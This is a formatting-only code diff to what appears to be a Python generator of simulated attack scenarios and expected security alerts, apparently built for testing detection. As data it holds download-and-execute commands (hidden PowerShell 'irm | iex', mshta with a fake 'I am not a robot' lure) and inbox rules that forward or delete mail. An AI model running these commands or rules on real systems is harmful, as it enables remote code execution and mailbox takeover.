@@ -83,7 +83,8 @@ def pasted(scene: Scene) -> Expected:
             (f"{SYSTEM}mshta.exe", f'"{SYSTEM}mshta.exe" {url} # I am not a robot: {random.randint(1000, 9999)}'),
             (
                 shell,
-                f"powershell -NoProfile -WindowStyle Hidden -Command \"$u='{url}';Invoke-RestMethod $u|Invoke-Expression\"",
+                "powershell -NoProfile -WindowStyle Hidden -Command "
+                f"\"$u='{url}';Invoke-RestMethod $u|Invoke-Expression\"",
             ),
             (f"{SYSTEM}cmd.exe", f"cmd /c start /min powershell -ep bypass -c irm {url} ^| iex"),
         )
@@ -118,9 +119,15 @@ def mail_with_malware(scene: Scene) -> Expected:
     """The same at a company whose mail security is its only sensor: nobody saw whether it was opened."""
     who, host = scene.attacker, scene.host
     scene.then(
-        Mailed(host, f"{who.word()}@{who.domain()}", who.address(), who.subject, f"{who.document}.zip",
-               f"Trojan.{who.family.upper()}.{who.word().upper()}")
-    )  # fmt: skip
+        Mailed(
+            host,
+            f"{who.word()}@{who.domain()}",
+            who.address(),
+            who.subject,
+            f"{who.document}.zip",
+            f"Trojan.{who.family.upper()}.{who.word().upper()}",
+        )
+    )
     return expect([host], ("mail_malware",))
 
 
@@ -149,11 +156,19 @@ def phished(scene: Scene) -> Expected:
     outside = f"{who.word()}@{who.domain()}"
     operation, details = random.choice(
         (
-            ("New-InboxRule", (("Name", random.choice((".", "..", "a"))), ("SubjectContainsWords", "請求;invoice;振込;支払"), ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True"))),
+            (
+                "New-InboxRule",
+                (
+                    ("Name", random.choice((".", "..", "a"))),
+                    ("SubjectContainsWords", "請求;invoice;振込;支払"),
+                    ("MoveToFolder", "RSS Feeds"),
+                    ("MarkAsRead", "True"),
+                ),
+            ),
             ("New-InboxRule", (("Name", who.word()), ("ForwardTo", outside), ("DeleteMessage", "True"))),
             ("Set-InboxRule", (("Name", "."), ("From", "keiri"), ("DeleteMessage", "True"))),
         )
-    )  # fmt: skip
+    )
     scene.then(Cloud(host.mail, operation, stranger, details), (100, 1800))
     return expect([host], ("account_takeover", "unusual_sign_in"))
 
